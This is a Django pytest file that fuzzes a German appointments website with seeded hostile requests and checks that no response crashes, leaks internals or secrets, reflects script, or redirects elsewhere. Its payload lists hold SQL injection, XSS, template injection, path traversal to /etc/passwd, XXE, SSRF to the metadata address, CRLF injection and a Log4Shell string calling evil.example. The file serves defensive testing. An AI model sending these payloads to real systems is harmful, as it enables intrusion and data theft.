"""Does nothing anybody sends break a page, show its inner workings or other people's data, or keep the next visitor waiting?

The addresses come from the resolver, the names of parameters from the forms, the interface's description and the source:
a new page or parameter is attacked without a word here. Always the same requests; others with HOSTILE_SEED=2, more with
HOSTILE=5000.
"""

from __future__ import annotations

import os
import random
import re
from datetime import timedelta
from typing import Any
from urllib.parse import quote, urlencode, urlsplit

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from appointments.confirmation_rounds import link_of
from appointments.cookieless import FormToken
from appointments.filters import SlotFilter
from appointments.models import MistakeReport
from appointments.report_form import ReportForm
from appointments.round_form import SlotAnswer
from beratung.api.described import description
from beratung.settings import BASE_DIR
from tests.security.addresses import SECRET, World, filled, routes

REQUESTS = int(os.environ.get("HOSTILE", "700"))
SEED = int(os.environ.get("HOSTILE_SEED", "1"))
A_NORMAL_ONE_EVERY = 30
pytestmark = pytest.mark.django_db

# What a value, a place in a path, or a name of a parameter can be; already written as in an address.
VALUES = [
    "",
    "%00",
    "a%00b",
    "%ff%fe",
    "%c0%ae%c0%ae/",
    "%ed%a0%80",
    quote("' OR 1=1 --"),
    quote("1; DROP TABLE locations_district; --"),
    quote("1 UNION SELECT username, password FROM auth_user"),
    quote("%' AND pg_sleep(9)--"),
    quote('"><script>alert(1)</script>'),
    quote("javascript:alert(1)"),
    quote("{{ settings.SECRET_KEY }}{% debug %}${7*7}#{7*7}%(asctime)s{0.__class__}"),
    quote("../../../../etc/passwd"),
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%5c%2e%2e%5cwindows",
    quote("\u202egnp.exe\u2066"),
    quote("👩‍👩‍👧‍👦🏳️‍🌈" * 20),
    quote("a\u0300" * 300),
    quote("İıßﬀ"),
    quote("٣١٢٢٤"),
    quote("²"),
    "9" * 400,
    "-" + "9" * 30,
    "2147483648",
    "9223372036854775808",
    "1e999",
    "NaN",
    "0x10",
    "-1",
    "0",
    "2026-02-30",
    "0000-00-00",
    "9999-12-31",
    "99999-01-01",
    "2026-W53-8",
    "24:61",
    "x" * 6000,
    "%0d%0aX-Evil:%201",
    "%0d%0a%0d%0a<html>",
    quote("*)(uid=*))(|(uid=*"),
    quote("http://169.254.169.254/latest/meta-data/"),
    "//evil.example",
    "%",
    "%zz",
    "+",
    "null",
    "[]",
    "true",
]
METHODS = (
    ["GET"] * 9 + ["POST"] * 6 + ["HEAD", "OPTIONS", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "QUATSCH", "get"]
)
DEEP = 40_000
BODIES: list[tuple[str, bytes]] = [
    ("application/json", b'{"a":' * DEEP + b"1" + b"}" * DEEP),
    ("application/json", b"[" * DEEP),
    ("application/json", b'{"kind": {"$ne": null}, "__proto__": {"x": 1}}'),
    ("application/json; charset=utf-16", b"\xff\xfe\x00"),
    ("application/x-www-form-urlencoded; charset=quatsch", b"a=1"),
    ("application/x-www-form-urlencoded; charset=utf-7", b"a=+ADw-script+AD4-"),
    ("application/x-www-form-urlencoded", b"&".join(b"f%d=1" % number for number in range(1500))),
    ("application/x-www-form-urlencoded", b"a[b][c][]=1&a[b]=2&a=3&a=4&=5&===&&&"),
    ("application/x-www-form-urlencoded", b"text=" + b"x" * 3_000_000),
    ("multipart/form-data", b"a"),
    ("multipart/form-data; boundary=" + "b" * 500, b"a"),
    (
        "multipart/form-data; boundary=b",
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="../../../x\0.csv"\r\n\r\nx\r\n--b--\r\n',
    ),
    (
        "multipart/form-data; boundary=b",
        b'--b\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!\r\n--b--\r\n',
    ),
    ("multipart/form-data; boundary=b", b'--b\r\nContent-Disposition: form-data; name="kind"\r\n\r\n\xff\xfe\r\n--b'),
    ("text/xml", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    ("", b"\x00" * 1000),
    ("quatsch", b"a=1"),
    ("text/html; charset=" + "x" * 300, b"a=1"),
]
HEADERS: list[dict[str, str]] = [
    {"HTTP_HOST": "evil.example"},
    {"HTTP_HOST": "testserver:80@evil.example"},
    {"HTTP_HOST": ""},
    {"HTTP_HOST": "x" * 5000},
    {"HTTP_X_FORWARDED_HOST": "evil.example", "HTTP_X_FORWARDED_PROTO": "https", "HTTP_X_FORWARDED_PORT": "99999"},
    {"HTTP_X_FORWARDED_FOR": "' OR 1=1 --, \x00"},
    {"REMOTE_ADDR": "fe80::1%eth0"},
    {"REMOTE_ADDR": ""},
    {"HTTP_ORIGIN": "null", "HTTP_REFERER": "http://[kaputt/"},
    {"HTTP_ORIGIN": "http://testserver", "HTTP_SEC_FETCH_SITE": "same-origin"},
    {"HTTP_ACCEPT": "*/*;q=\x00, text/html;q=99e99,,;;"},
    {"HTTP_ACCEPT": "application/problem+json"},
    {"HTTP_ACCEPT_LANGUAGE": "x" * 2000 + ";q=1e9"},
    {"HTTP_ACCEPT_ENCODING": "gzip;q=nan, br, " + "z," * 500},
    {"HTTP_IF_NONE_MATCH": '"' * 3000},
    {"HTTP_IF_MODIFIED_SINCE": "Mon, 99 Feb 99999 99:99:99 GMT"},
    {"HTTP_RANGE": "bytes=0-0,-1,99999999999999999999-"},
    {"HTTP_COOKIE": "sessionid=../../etc/passwd; csrftoken=\x00; messages=W1tdXQ:quatsch; ;;="},
    {"HTTP_COOKIE": "sessionid=" + "a" * 6000},
    {"HTTP_COOKIE": f"sessionid={'a' * 32}; csrftoken={'b' * 32}"},
    {"HTTP_AUTHORIZATION": "Bearer \xff\xfe"},
    {"HTTP_AUTHORIZATION": "Basic " + "=" * 2000},
    {"HTTP_X_REQUEST_ID": "x\r\nX-Evil: 1"},
    {"HTTP_X_HTTP_METHOD_OVERRIDE": "DELETE"},
    {"HTTP_TRANSFER_ENCODING": "chunked", "CONTENT_LENGTH": "-5"},
    {"HTTP_USER_AGENT": "() { :;}; ${jndi:ldap://evil.example/a}"},
    {"SCRIPT_NAME": "/../.."},
]
PATHS = [
    "//evil.example/%2e%2e",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/..;/admin/",
    "/static/../manage.py",
    "/static/%2e%2e/%2e%2e/db.sqlite3",
    "/static/..%5c..%5cdb.sqlite3",
    "/.git/config",
    "/.env",
    "/db.sqlite3",
    "/admin/../../",
    "/%00",
    "/%ff",
    "/" + "a/" * 900,
    "/ar/../en/",
    "/xx/themen/",
    "/themen//schulden/",
    "/themen/schulden/;.css",
    "/healthz/",
    "/api/%2e%2e/admin/",
    "/api/hsds/services/..%2f",
    "/admin/appointments/slot/_5C_00/change/",
    "/admin/jsi18n/%00",
    "/*",
    "/?" + "&" * 3000,
    "/?" + "a=1&" * 3000,
]
TELLTALES = re.compile(
    r"Traceback|site-packages|File &quot;|\.py&quot;|\.py\", line|django\.(core|db|urls|http|template)\.|psycopg|sqlite3\.|"
    r"root:x:0|" + re.escape(str(BASE_DIR)) + "|" + SECRET
)


def names_of_parameters(world: World) -> list[str]:
    """Return every name that a form, the interface or a line of the source asks for."""
    found = {*SlotFilter.base_filters, *ReportForm.base_fields, *SlotAnswer.base_fields, "username", "password", "code"}
    found |= {f"{world.slot.uuid.hex}-{name}" for name in SlotAnswer.base_fields}
    for methods in description("http://testserver")["paths"].values():
        found |= {one["name"] for operation in methods.values() for one in operation.get("parameters", ())}
    for room in ("locations", "appointments", "budget", "beratung"):
        for path in (BASE_DIR / room).rglob("*.py"):
            found |= set(
                re.findall(r"(?:GET|POST|parameters|query)(?:\.get|\.getlist)?[(\[]\"(\w+)\"", path.read_text("utf-8"))
            )
    return sorted(found)


@pytest.fixture
def world() -> World:
    return World()


class Attack:
    """A seeded series of requests."""

    def __init__(self, world: World, addresses: dict[Any, str]) -> None:
        self.chance = random.Random(SEED)  # noqa: S311 - the same series every time
        self.names, self.addresses = names_of_parameters(world), addresses
        opened = [route for route in addresses if route.is_open]
        self.closed = [route for route in addresses if not route.is_open]
        # Every open address in turn, so that none is left out by chance.
        self.turn = opened * (REQUESTS // len(opened) + 1)

    def request(self, number: int) -> tuple[str, str, bytes, str, dict[str, str]]:
        method = self.chance.choice(METHODS)
        kind, body = self._body()
        headers = dict(self.chance.choice(HEADERS)) if self.chance.random() < 0.3 else {}
        headers.setdefault("REMOTE_ADDR", f"192.0.{number // 250}.{number % 250}")  # the limits have tests of their own
        return method, self._address(number), body if method not in {"GET", "HEAD"} else b"", kind, headers

    def _address(self, number: int) -> str:
        if self.chance.random() < 0.06:
            return self.chance.choice(PATHS)
        route = self.chance.choice(self.closed) if self.chance.random() < 0.08 else self.turn[number]
        address = self.addresses[route]
        if route.places and self.chance.random() < 0.35:
            address = route.fill(**{place: self.chance.choice(VALUES) for place in route.places})
        if self.chance.random() < 0.05:
            address = f"/{self.chance.choice(['ar', 'en', 'uk'])}{address}"
        return f"{address}?{self._query()}" if self.chance.random() < 0.7 else address

    def _query(self) -> str:
        pairs = []
        for _ in range(self.chance.randint(1, 5)):
            name = self.chance.choice(self.names) if self.chance.random() < 0.9 else self.chance.choice(VALUES)
            ending = self.chance.choice(["", "", "", "[]", "[a][b]", "__contains", "__id__exact"])
            pairs += [f"{name}{ending}={self.chance.choice(VALUES)}"] * self.chance.choice([1, 1, 2, 40])
        return "&".join(pairs)[:7000]

    def _body(self) -> tuple[str, bytes]:
        if self.chance.random() < 0.4:
            return self.chance.choice(BODIES)
        return "application/x-www-form-urlencoded", self._query().encode()


def body_of(response: Any) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8", "replace")


def complaints(response: Any) -> list[str]:
    """Return what is wrong with an answer, whatever was asked."""
    found = [] if response.status_code < 500 else [str(response.status_code)]
    body = body_of(response)
    if told := TELLTALES.search(body):
        found.append(f"tells {told[0]!r}")
    if "<script>alert(1)" in body and "html" in response.headers.get("Content-Type", ""):
        found.append("runs what was sent")
    if "X-Evil" in response.headers or _elsewhere(response.headers.get("Location", "")):
        found.append("lets itself be led astray")
    if "Content-Security-Policy" not in response.headers or response.headers.get("X-Content-Type-Options") != "nosniff":
        found.append("no headers")
    return found


def _elsewhere(location: str) -> bool:
    return location.startswith("//") or urlsplit(location).netloc not in ("", "testserver")


def test_no_hostile_request_breaks_or_tells_anything_and_the_next_visitor_is_served(world):
    client = Client(raise_request_exception=False)
    attack, broken = Attack(world, filled(world, client)), []
    normal = [reverse("slot", args=[world.slot.uuid]), "/?ort=31234", "/api/hsds/services", "/kreise/beispiel/"]
    for number in range(REQUESTS):
        method, address, body, kind, headers = attack.request(number)
        response = client.generic(method, address, body, kind, **headers)
        broken += [
            (complaint, method, address[:200], kind[:40], str(headers)[:80]) for complaint in complaints(response)
        ]
        if number % A_NORMAL_ONE_EVERY == 0:
            assert client.get(normal[number // A_NORMAL_ONE_EVERY % len(normal)]).status_code == 200, number
    assert broken == []


def test_every_open_address_was_found_and_leads_somewhere(world):
    client = Client(raise_request_exception=False)
    found = {
        route: client.get(address).status_code for route, address in filled(world, client).items() if route.is_open
    }
    nowhere = {route.name for route, status in found.items() if status == 404}
    # Off until an operator sets them.
    assert nowhere == {"metrics", "security_txt", "oidc_authentication_init", "oidc_authentication_callback"}
    assert len(found) >= 80


def test_every_value_meets_every_parameter_of_the_search_and_three_of_them_those_of_every_other_page(world):
    """One request carries all parameters: what one alone breaks, it breaks here too."""
    client = Client(raise_request_exception=False)
    names = names_of_parameters(world)
    assert {"ort", "thema", "seite", "stichtag", "plan", "gespeichert", "next", "postcode"} <= set(names)
    opened = [address for route, address in filled(world, client).items() if route.is_open]
    asked = [(address, value) for value in VALUES for address in ("/", "/kreise/beispiel/")]
    asked += [
        (one, VALUES[(number * 3 + more) % len(VALUES)]) for number, one in enumerate(opened) for more in range(3)
    ]
    for number, (address, value) in enumerate(asked):
        query = "&".join(f"{name}={value[:800]}" for name in names)[:30_000]
        response = client.get(f"{address}?{query}", REMOTE_ADDR=f"192.0.{number // 250}.{number % 250}")
        assert complaints(response) == [], (address, value[:80])


def test_every_value_in_every_field_of_a_form_that_is_truly_ours(world):
    client, now = Client(raise_request_exception=False), timezone.localtime()
    report = FormToken("mistake-report", str(world.slot.uuid)).issue(now - timedelta(seconds=10))
    answer = FormToken("confirmation-round", world.letter.uuid.hex).issue(now - timedelta(seconds=10))
    prefix = world.slot.uuid.hex
    forms = {
        f"/termine/{world.slot.uuid}/fehler-melden/": [
            f"token={report}&kind=other&text=",
            f"token={report}&text=a&kind=",
        ],
        link_of(world.letter).partition(":8000")[2]: [
            f"token={answer}&{prefix}-answer=anders&{prefix}-text=",
            f"token={answer}&{prefix}-answer=endet&{prefix}-last_day=",
        ],
        "/anmelden/": ["password=falsch&username=", "username=beispiel&password="],
        "/anmelden/?next=": ["username=beispiel&password=falsch&next="],
    }
    asked = [(address, begun + value) for address, begins in forms.items() for begun in begins for value in VALUES]
    for number, (address, body) in enumerate(asked):
        sent = {"REMOTE_ADDR": f"192.0.{number // 250}.{number % 250}", "HTTP_ORIGIN": "http://testserver"}
        response = client.generic("POST", address, body.encode(), "application/x-www-form-urlencoded", **sent)
        assert complaints(response) == [], (address, body[-80:])
    assert not [row.text for row in MistakeReport.objects.all() if "\0" in row.text]


def test_a_refusal_repeats_nothing_raw():
    page = Client().get("/api/hsds/services?" + urlencode({"<script>alert(1)</script>": "x"}))
    assert page.status_code == 400
    assert "html" not in page["Content-Type"]
    assert len(routes()) > 400
    assert settings.DEBUG is False
